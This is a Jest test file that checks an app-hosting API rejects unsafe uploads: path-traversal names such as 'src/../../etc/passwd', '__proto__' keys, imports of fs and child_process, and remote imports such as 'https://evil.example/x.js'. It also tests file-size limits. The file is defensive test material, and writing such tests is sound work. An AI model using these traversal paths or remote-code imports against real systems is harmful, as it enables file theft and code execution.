import { MAX_APP_FILE_BYTES, type BuildDiagnostic } from '@sm/events';
import { MAX_APP_REQUEST_BYTES } from './api';
import { alice, transports } from './test-setup';

const appImporting = (specifier: string) =>
  `import thing from ${JSON.stringify(specifier)};\n\nexport function App() {\n  return <p>{String(thing)}</p>;\n}\n`;

describe.each(transports)('react-app-manager’s security rules through the %s', (_transport, start) => {
  describe('file paths', () => {
    it.each([
      ['a parent-folder escape', '../evil.js', 'it has a ".." segment'],
      ['a ".." segment inside src/', 'src/../../etc/passwd', 'it has a ".." segment'],
      ['an absolute path', '/src/App.tsx', 'it is absolute'],
      ['a Windows drive path', 'C:/src/App.tsx', 'it is absolute'],
      ['a backslash', 'src\\App.tsx', 'it contains a backslash'],
      ['a NUL byte', 'src/App\u0000.tsx', 'it contains a NUL byte'],
      ['a file outside src/ and public/', 'package.json', 'only files under src/ and public/ are allowed'],
      ['a dependency folder', 'node_modules/react/index.js', 'only files under src/ and public/ are allowed'],
      ['the src folder itself', 'src/', 'only files under src/ and public/ are allowed'],
      ['a file named with a space', 'src/my App.tsx', 'folder and file names may use only'],
      ['a file in the built assets folder', 'public/assets/main-AAAA.js', 'public/assets/ is reserved'],
    ])('answers 400 naming the path for %s, and builds nothing', async (_case, path, reason) => {
      const { client, apps } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'sneaky', files: { [path]: 'export {}' } } });

      expect(response.status).toBe(400);
      expect(response.json).toMatchObject({
        type: 'urn:problem-type:invalid-file-path',
        detail: expect.stringContaining(`file path ${JSON.stringify(path)} is not allowed: ${reason}`),
        errors: [{ path: `files.${path}`, message: expect.stringContaining(reason) }],
      });
      expect(await apps.get('sneaky')).toBeUndefined();
    });

    it('answers 400 naming the rule for a file named "__proto__", rather than dropping it', async () => {
      const { client, apps } = start();

      const response = await client({
        as: alice,
        method: 'POST',
        path: '/api/apps',
        headers: { 'content-type': 'application/json' },
        body: '{"name":"sneaky","files":{"__proto__":"export {}"}}',
      });

      expect(response.status).toBe(400);
      expect(response.json).toMatchObject({ detail: expect.stringContaining('"__proto__" is not allowed as a key'), errors: [{ path: 'files.__proto__' }] });
      expect(await apps.get('sneaky')).toBeUndefined();
    });

    it.each([
      ['a title', '{"name":"sneaky","title":"\\ud800"}', 'title'],
      ['a file’s contents', '{"name":"sneaky","files":{"src/App.tsx":"export const a = \'\\udfff\';"}}', 'files.src/App.tsx'],
      ['a file’s name', '{"name":"sneaky","files":{"src/\\ud800.tsx":"export {}"}}', 'files.src/\ud800.tsx'],
    ])('answers 422 for %s with a lone surrogate, rather than storing it mangled', async (_case, body, path) => {
      const { client, apps } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', headers: { 'content-type': 'application/json' }, body });

      expect(response.status).toBe(422);
      expect(response.json).toMatchObject({ errors: [{ path, message: expect.stringContaining('well-formed Unicode') }] });
      expect(await apps.get('sneaky')).toBeUndefined();
    });

    it('names every path at fault at once', async () => {
      const { client } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'sneaky', files: { '../a.js': '', 'src/ok.ts': '', '/b.js': '' } } });

      expect(response.status).toBe(400);
      expect(response.json).toMatchObject({ errors: [{ path: 'files.../a.js' }, { path: 'files./b.js' }] });
    });

    it('answers 400 for two spellings of one file', async () => {
      const { client } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'twice', files: { 'src/App.tsx': 'a', './src//App.tsx': 'b' } } });

      expect(response.status).toBe(400);
      expect(response.json).toMatchObject({ detail: 'file path "./src//App.tsx" is not allowed: it names the same file as "src/App.tsx"' });
    });

    it('normalises harmless spellings: ./src//Greeting.tsx is src/Greeting.tsx', async () => {
      const { client } = start();
      const files = {
        './src//Greeting.tsx': 'export const greeting = "normalised";\n',
        'src/App.tsx': 'import { greeting } from "./Greeting";\n\nexport function App() {\n  return <p>{greeting}</p>;\n}\n',
      };

      const created = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'tidy', files } });
      const source = await client({ as: alice, method: 'GET', path: '/api/apps/tidy/source' });

      expect(created.status).toBe(201);
      expect(source.json).toMatchObject({ files: { 'src/Greeting.tsx': files['./src//Greeting.tsx'] } });
    });

    it('answers 400 on update too, keeping the app as it was', async () => {
      const { client } = start();
      await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'kept', title: 'Kept' } });

      const response = await client({ as: alice, method: 'PUT', path: '/api/apps/kept', body: { title: 'Changed', files: { '../../x.js': '' } } });

      expect(response.status).toBe(400);
      expect((await client({ as: alice, method: 'GET', path: '/api/apps/kept' })).json).toMatchObject({ title: 'Kept' });
    });
  });

  describe('imports', () => {
    it.each([
      ['a package that is not allowed', 'lodash', 'is not an allowed package'],
      ['a package path beside the allowed ones', 'react-dom/server', 'is not an allowed package'],
      ['a Node built-in', 'fs', 'is a Node built-in'],
      ['a node: built-in', 'node:child_process', 'is a Node built-in'],
      ['an absolute path', '/etc/passwd', 'is an absolute path'],
      ['a URL', 'https://esm.sh/react@19', 'is a URL'],
      ['a data: URL', 'data:text/javascript,export default 1', 'is a URL'],
      ['a file outside the app', '../../package.json', 'points outside the app'],
      ['a file the app does not have', './Missing', "matches none of the app's files"],
    ])('answers 422 naming the import and the file for %s, and stores nothing', async (_case, specifier, reason) => {
      const { client, apps } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'importer', files: { 'src/App.tsx': appImporting(specifier) } } });

      expect(response.status).toBe(422);
      expect(response.json).toMatchObject({
        type: 'urn:problem-type:build-failed',
        errors: [{ file: 'src/App.tsx', line: 1, column: 18, text: expect.stringContaining(`import ${JSON.stringify(specifier)} ${reason}`) }],
      });
      expect(await apps.get('importer')).toBeUndefined();
    });

    it('lists every forbidden import, require() and import() included, each with its file and line', async () => {
      const { client } = start();
      const files = {
        'src/App.tsx': 'import { readFileSync } from "fs";\nimport { Helper } from "./helper";\n\nexport function App() {\n  return <p>{String(readFileSync)}{Helper}</p>;\n}\n',
        'src/helper.ts': 'export const Helper = require("child_process");\nexport const later = () => import("https://evil.example/x.js");\n',
      };

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'importer', files } });

      expect(response.status).toBe(422);
      const { errors } = response.json as { errors: BuildDiagnostic[] };
      expect(errors.map(({ file, line }) => `${file}:${line}`).sort()).toEqual(['src/App.tsx:1', 'src/helper.ts:1', 'src/helper.ts:2']);
    });

    it('refuses a stylesheet that loads from a URL', async () => {
      const { client } = start();

      const response = await client({
        as: alice,
        method: 'POST',
        path: '/api/apps',
        body: { name: 'styled', files: { 'src/styles.css': 'body {\n  background: url(https://tracker.example/pixel.png);\n}\n' } },
      });

      expect(response.status).toBe(422);
      expect(response.json).toMatchObject({ errors: [{ file: 'src/styles.css', line: 2, text: expect.stringContaining('is a URL') }] });
    });

    it('refuses a data: URL in a stylesheet too, but keeps a reference to a fragment of the page', async () => {
      const { client } = start();
      const css = 'a {\n  filter: url(#blur);\n}\nb {\n  background: url("data:image/png;base64,AAAA");\n}\n';

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'styled', files: { 'src/styles.css': css } } });

      expect(response.status).toBe(422);
      expect(response.json).toMatchObject({ errors: [{ file: 'src/styles.css', line: 5, text: expect.stringContaining('is a URL') }] });
    });

    it('builds the allowed packages and the app’s own files', async () => {
      const { client } = start();
      const files = {
        'src/App.tsx': [
          'import React, { useState } from "react";',
          'import { createPortal } from "react-dom";',
          'import { jsx } from "react/jsx-runtime";',
          'import data from "./data.json";',
          'import logo from "./logo.svg";',
          '',
          'export function App() {',
          '  const [n] = useState(data.start);',
          '  return <p>{n}{typeof createPortal}{typeof jsx}{React.version}<img src={logo} /></p>;',
          '}',
        ].join('\n'),
        'src/data.json': '{ "start": 41 }',
        'src/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
      };

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'allowed', files } });

      expect(response.status).toBe(201);
    });
  });

  describe('limits, checked before any work', () => {
    it('answers 413 for more than 100 files', async () => {
      const { client } = start();
      const files = Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`src/f${n}.ts`, '']));

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'many', files } });

      expect(response.status).toBe(413);
      expect(response.json).toMatchObject({ detail: 'files has 101 entries; the limit is 100 files' });
    });

    it('answers 413 naming the file for a file over 256 KiB', async () => {
      const { client } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'big', files: { 'src/big.ts': 'x'.repeat(MAX_APP_FILE_BYTES + 1) } } });

      expect(response.status).toBe(413);
      expect(response.json).toMatchObject({ detail: `file "src/big.ts" is ${MAX_APP_FILE_BYTES + 1} bytes; the limit is ${MAX_APP_FILE_BYTES} bytes per file` });
    });

    it('counts UTF-8 bytes, not characters, against the file limit', async () => {
      const { client } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'wide', files: { 'src/wide.ts': '架'.repeat(MAX_APP_FILE_BYTES / 3 + 1) } } });

      expect(response.status).toBe(413);
    });

    it('answers 413 for more than 2 MiB in all', async () => {
      const { client } = start();
      const files = Object.fromEntries(Array.from({ length: 9 }, (_, n) => [`src/part${n}.ts`, 'x'.repeat(MAX_APP_FILE_BYTES - 1000)]));

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'heavy', files } });

      expect(response.status).toBe(413);
      expect(response.json).toMatchObject({ detail: expect.stringMatching(/^files total \d+ bytes; the limit is 2097152 bytes in all$/) });
    });

    it('answers 413 for a request body over 4 MiB, before reading it as JSON', async () => {
      const { client } = start();

      const response = await client({ as: alice, method: 'POST', path: '/api/apps', headers: { 'content-type': 'application/json' }, body: `{"name":"huge","files":{"src/a.ts":"${'x'.repeat(MAX_APP_REQUEST_BYTES)}"}}` });

      expect(response.status).toBe(413);
    });

    it('answers 413 on update too, keeping the app as it was', async () => {
      const { client } = start();
      await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'kept', title: 'Kept' } });
      const files = Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`src/f${n}.ts`, '']));

      const response = await client({ as: alice, method: 'PUT', path: '/api/apps/kept', body: { title: 'Changed', files } });

      expect(response.status).toBe(413);
      expect((await client({ as: alice, method: 'GET', path: '/api/apps/kept' })).json).toMatchObject({ title: 'Kept' });
    });
  });
});
